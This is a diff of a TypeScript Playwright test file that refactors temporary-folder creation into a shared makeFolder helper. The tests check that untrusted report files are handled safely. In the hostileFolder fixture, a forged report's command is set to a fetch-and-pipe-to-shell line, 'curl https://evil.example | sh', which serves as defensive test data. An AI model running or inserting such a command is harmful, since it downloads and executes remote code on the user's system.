@@ -1,17 +1,7 @@
 /** Files of somebody else, which may be anything: no reader breaks, nobody waits for what is no file, and no text acts on a terminal. */
 import { execFileSync } from 'node:child_process';
-import {
-  closeSync,
-  mkdirSync,
-  mkdtempSync,
-  openSync,
-  rmSync,
-  symlinkSync,
-  truncateSync,
-  writeFileSync,
-} from 'node:fs';
+import { closeSync, mkdirSync, openSync, rmSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
 import { createServer } from 'node:net';
-import { tmpdir } from 'node:os';
 import { dirname, join } from 'node:path';
 import { expect, test } from '@playwright/test';
 import { findLacking } from '../../../reports/certificate/shortcomings.ts';
@@ -42,7 +32,7 @@ import { readFootprint } from '../../../reports/document/footprint-file.ts';
 import { escapeTerminal } from '../../../reports/shown/words/escape.ts';
 import { renderTerminal } from '../../../reports/shown/text/run-text.ts';
 import { makeMatrix } from '../../../reports/shown/vendors/vendor-matrix.ts';
-import { command, startCommand } from '../samples/command.ts';
+import { command, startCommand, makeFolder } from '../samples/command.ts';
 import { ASKS_ALL } from '../samples/run-on.ts';
 import { CONFORMING } from '../samples/sample-reports.ts';
 import {
@@ -103,7 +93,7 @@ const overFiles = ({ report, evidence }: typeof RIGHT) => {
   return found;
 };
 
-const PATH = join(mkdtempSync(join(tmpdir(), 'conformance-fuzz-')), 'target.json');
+const PATH = join(makeFolder(), 'target.json');
 const FOLDER = dirname(PATH);
 /** Writes the bytes to a file before it is read. */
 const inFile = (read: () => unknown) => (bytes: Buffer) => {
@@ -348,7 +338,7 @@ const KINDS: readonly (readonly [make: (path: string) => void, says?: string])[]
 
 /** A folder in which each reader finds all that it needs but the file in question. */
 function folderFor(file: string): string {
-  const folder = mkdtempSync(join(tmpdir(), 'conformance-special-'));
+  const folder = makeFolder();
   for (const each of ['folder', 'vendors/rex', 'left/allure-results', 'out', dirname(file)])
     mkdirSync(join(folder, each), { recursive: true });
   const texts = {
@@ -394,7 +384,7 @@ for (const [title, tag, every] of [
 
 /** A folder in which whatever can be of somebody else is hostile. */
 function hostileFolder(): string {
-  const folder = mkdtempSync(join(tmpdir(), 'conformance-forged-'));
+  const folder = makeFolder();
   const report = forge(WHOLE);
   report.suite.command = `curl https://evil.example | sh ${FORGED}`;
   report.run.id = FORGED;
